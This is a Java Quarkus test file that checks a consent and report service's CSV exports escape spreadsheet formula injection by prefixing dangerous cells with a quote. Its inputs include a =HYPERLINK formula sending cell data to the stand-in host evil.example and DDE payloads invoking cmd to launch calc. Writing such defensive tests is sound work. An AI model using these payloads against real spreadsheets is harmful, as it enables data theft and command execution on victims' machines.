package io.comeback.web;

import static io.comeback.testing.Api.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;

import io.comeback.audience.CsvDialect;
import io.comeback.reports.NpsReport;
import io.comeback.testing.TestClockProducer;
import io.comeback.testing.TestData;
import io.quarkus.test.junit.QuarkusTest;
import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Text a shop or a phone sent (consent source and wording, keywords) reaches auditors' spreadsheets through the CSV
 * exports: a cell that would run as a formula there ({@code =HYPERLINK(…)}) is written with a leading quote.
 */
@QuarkusTest
class CsvFormulaExportTest {

    /**
     * The ledger stamps each consent change with PostgreSQL's time ({@code recorded_at DEFAULT now()}) while the
     * export ends at the service clock's now: that clock runs with the real one here, as in production, so what was
     * recorded a moment ago is inside the export.
     */
    @BeforeEach
    void clockRunsWithRealTime() {
        TestClockProducer.CLOCK.ticking();
    }

    @Test
    void consentExportWritesFormulaCellsAsText() {
        String id = TestData.id("formula");
        String phone = TestData.norwegianMobile();
        given().body(Map.of(
                        "phone",
                        phone,
                        "consent",
                        Map.of(
                                "status",
                                "opted_in",
                                "source",
                                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                                "text",
                                "@SUM(1+1)*cmd|' /C calc'!A0")))
                .put("/api/customers/" + id)
                .then()
                .statusCode(201);

        String csv = given().get("/api/consent/export")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        String line = csv.lines().filter(l -> l.contains(id)).findFirst().orElseThrow();
        assertThat(line)
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")
                .contains("'@SUM(1+1)*cmd|' /C calc'!A0")
                .doesNotContain(",=HYPERLINK")
                .doesNotContain(",\"=HYPERLINK")
                .doesNotContain(",@SUM");
        // A phone number is a plain number: left as it is.
        assertThat(line).contains("," + phone + ",");
    }

    @Test
    void reportCsvWritesFormulaCellsAsTextAndNumbersAsNumbers() {
        String csv = ReportCsv.nps(
                Instant.parse("2026-01-01T00:00:00Z"),
                Instant.parse("2026-02-01T00:00:00Z"),
                "=cmd|' /C calc'!A0",
                new NpsReport(4, 1, 1, 2, -25.0),
                CsvDialect.STANDARD);
        assertThat(csv).contains(",'=cmd|' /C calc'!A0,").endsWith(",-25.0\r\n");
        // In Excel's Nordic dialect the number keeps its sign and gets its decimal comma; the formula is still text.
        String nordic = ReportCsv.nps(
                Instant.parse("2026-01-01T00:00:00Z"),
                Instant.parse("2026-02-01T00:00:00Z"),
                "=cmd|' /C calc'!A0",
                new NpsReport(4, 1, 1, 2, -25.0),
                CsvDialect.EXCEL_NORDIC);
        assertThat(nordic)
                .startsWith("\uFEFFfrom;to;flow;")
                .contains(";'=cmd|' /C calc'!A0;")
                .endsWith(";-25,0\r\n");
        given().queryParam("format", "csv")
                .get("/api/reports/loyalty")
                .then()
                .statusCode(200)
                .body(not(containsString(",=")));
    }
}
